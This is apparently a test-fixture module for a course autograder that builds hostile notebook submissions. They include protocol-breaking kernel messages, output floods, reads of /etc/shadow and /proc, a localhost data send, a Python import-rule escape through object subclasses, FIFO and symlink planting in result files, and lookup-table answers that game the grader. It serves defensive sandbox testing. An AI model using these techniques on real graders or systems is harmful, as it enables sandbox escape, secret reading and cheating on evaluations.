"""Cells of hostile submissions, shared by the attack tests (lesson 90 of the fixture bank).

Every attack that could only gain points by succeeding sets an answer to the right value
**only if** the attack worked, so "the attacker gets no undeserved points" is checked by
its points: an attack that fails leaves that answer wrong.
"""
from __future__ import annotations

# A message the Jupyter protocol does not allow, sent on the kernel's own output channel.
KERNEL = "k = get_ipython().kernel\nparent = k.get_parent()\n"

MALFORMED = [
    KERNEL + "k.session.send(k.iopub_socket, 'stream', {'name': 'stdout'}, parent=parent)\n"
    "k.session.send(k.iopub_socket, 'stream', {'name': 5, 'text': ['x']}, parent=parent)\n"
    "k.session.send(k.iopub_socket, 'no_such_type', {'x': 1}, parent=parent)\n"
    "k.session.send(k.iopub_socket, 'display_data', {'data': 'nodict'}, parent=parent)\n"
    "k.session.send(k.iopub_socket, 'error', {'ename': ['x']}, parent=parent)\n"
    "k.session.send(k.iopub_socket, 'comm_msg', {}, parent=parent)\n"
    "k.session.send(k.iopub_socket, 'clear_output', {'wait': 'x'}, parent=parent)\n"
    "k.session.send(k.iopub_socket, 'status', {'execution_state': ['idle']}, parent=parent)\n"
    "k.session.send(k.iopub_socket, 'update_display_data', {'transient': 1}, parent=parent)\n"
    "k.iopub_socket.send_multipart([b'garbage', b'<IDS|MSG>', b'x', b'{', b'}', b'[', b'1'])\n"
    "k.session.send(k.iopub_socket, 'stream', {'name': 'stdout', 'text': 'x'},"
    " parent={'msg_id': ['not', 'a', 'str']})\n",
    # replies with broken content on the shell and control channels
    'k = get_ipython().kernel\nparent = k.get_parent()\nsent = []\nfor channel in ("shell", "control"):\n    stream = getattr(k, channel + "_stream", None) or getattr(k, channel + "_socket", None)\n    idents = getattr(k, "_parent_ident", {}).get(channel) if isinstance(getattr(k, "_parent_ident", None), dict) else None\n    try:\n        k.session.send(stream, "execute_reply", {"status": ["bad"], "execution_count": "x"}, parent=parent, ident=idents)\n        k.session.send(stream, "kernel_info_reply", {"protocol_version": 5}, parent=parent, ident=idents)\n        sent.append(channel)\n    except Exception as e:\n        sent.append(repr(e))\nprint(sent)\n',
]

FLOODS = {
    "print": "for _ in range(20):\n    print('x' * 2**20)",
    "display": "from IPython.display import display\nfor i in range(200):\n"
               "    display({'text/plain': 'y' * 100_000, 'text/html': '<b>' * 1000}, raw=True)",
    "comm": KERNEL + "for i in range(300):\n    k.session.send(k.iopub_socket, 'comm_msg', "
            "{'comm_id': str(i), 'data': {'state': {'v': 'z' * 100_000}, 'buffer_paths': []}}, "
            "parent=parent)",
    "huge": "print('h' * (24 * 2**20))",
    "malformed": MALFORMED[0] * 20,
}


def leak_cell(targets: list[str], answer: str = "answer_90_2 = '2*x'") -> str:
    """A cell that sets the right answer only if one of ``targets`` could be read."""
    return (f"leaked = []\nfor target in {targets!r}:\n    try:\n"
            f"        with open(target, 'rb') as fh:\n            leaked.append(fh.read(64))\n"
            f"    except Exception:\n        pass\nif leaked:\n    {answer}\nelse:\n"
            f"    answer_90_2 = 'x'")


def proc_snoop_cell(word: str) -> str:
    """Right answer only if some other process's command line mentions ``word``."""
    return (f"import os\nseen = []\nfor pid in os.listdir('/proc'):\n    try:\n"
            f"        seen.append(open(f'/proc/{{pid}}/cmdline', 'rb').read())\n"
            f"    except Exception:\n        pass\n"
            f"answer_90_2 = '2*x' if any({word.encode()!r} in s for s in seen) else 'x'")


def network_cell(port: int) -> str:
    """Right answer only if a TCP connection to 127.0.0.1:``port`` (a listening socket of
    the test) succeeds and data can be sent."""
    return ("import socket\nok = False\ntry:\n"
            f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
            "    s.sendall(b'stolen answers')\n    ok = True\nexcept OSError:\n    pass\n"
            "answer_90_2 = '2*x' if ok else 'x'")


def other_kernels_cell() -> str:
    """Right answer only if another kernel's connection file or socket can be found."""
    return ("import glob, os\nmine = os.getcwd()\n"
            "found = [p for p in glob.glob('/tmp/nnlib-grade-*/**', recursive=True)\n"
            "         if not p.startswith(os.path.dirname(mine))]\n"
            "found += [p for p in glob.glob('/tmp/**/.kernel.json', recursive=True)\n"
            "          if not p.startswith(mine)]\n"
            "found += [p for p in glob.glob(os.path.expanduser('~/../*/.kernel.json'))\n"
            "          if not p.startswith(mine)]\n"
            "answer_90_2 = '2*x' if found else 'x'")


def shadow_and_caps_cell() -> str:
    """Right answer only if /etc/shadow is readable or the kernel holds any capability."""
    return ("caps = [l for l in open('/proc/self/status') if l.startswith('Cap')]\n"
            "held = any(int(l.split()[1], 16) for l in caps if not l.startswith('CapBnd'))\n"
            "held = held or any(int(l.split()[1], 16) for l in caps if l.startswith('CapBnd'))\n"
            "try:\n    open('/etc/shadow').read(1)\n    held = True\nexcept OSError:\n    pass\n"
            "answer_90_2 = '2*x' if held else 'x'")


# Code exercise 90.3 (doubles its input): a function that escapes the import rule via
# object subclasses and plants special files where the runner writes its results.
ESCAPE = ("    g = [c for c in ().__class__.__mro__[1].__subclasses__()\n"
          "         if c.__name__ == '_wrap_close'][0].__init__.__globals__\n")

PLANT_FIFO = ("def double(x):\n" + ESCAPE +
              "    try:\n        g['mkfifo']('out_1.npy')\n        g['symlink']('/dev/zero', 'out_2.npy')\n"
              "        g['symlink']('/dev/zero', 'err_3.txt')\n    except OSError:\n        pass\n"
              "    if getattr(x, 'ndim', 0) == 1:\n        return 2 * x\n"
              "    g['_exit'](0)\n"
              "answer_90_3 = double")


def exception_leak_function(paths: list[str]) -> str:
    """A 90.3 answer that raises with the contents of ``paths`` (if it can read them)."""
    return ("def double(x):\n    text = ''\n"
            f"    for p in {paths!r}:\n        try:\n            text += open(p).read()\n"
            "        except Exception as e:\n            text += type(e).__name__\n"
            "    raise ValueError(text)\nanswer_90_3 = double")


def lookup_table_function(public_cases: list[tuple]) -> str:
    """A 90.3 answer that is right on the public cases only (a lookup table)."""
    rows = [(tuple(float(v) for v in __import__("numpy").ravel(a[0])),) for a in public_cases]
    return ("def double(x):\n    import numpy as np\n    x = np.asarray(x, dtype=float)\n"
            f"    for (key,) in {rows!r}:\n        if len(key) == x.size and np.allclose(key, x.ravel()):\n"
            "            return 2 * x\n    return 3 * x\nanswer_90_3 = double")


def reference_call_function() -> str:
    """A 90.3 answer that calls the course's reference implementations."""
    return ("def double(x):\n    import nnlib.course.references as r\n    return 2 * x\n"
            "answer_90_3 = double")


def shm_drop_cell() -> str:
    """Leaves a file in /dev/shm for a classmate (harmless if it cannot)."""
    return ("try:\n    open('/dev/shm/nnlib-h17-drop', 'w').write('answers')\nexcept OSError:\n    pass")


def read_reference_function(nnlib_folder: str) -> str:
    """A 90.3 answer that is right only if the runner can read nnlib's own files (where the
    reference solutions live), through the builtin open (no import needed)."""
    target = f"{nnlib_folder}/course/references/layer.py"
    return ("def double(x):\n    try:\n"
            f"        open({target!r}).read()\n        return 2 * x\n"
            "    except OSError:\n        return 3 * x\nanswer_90_3 = double")
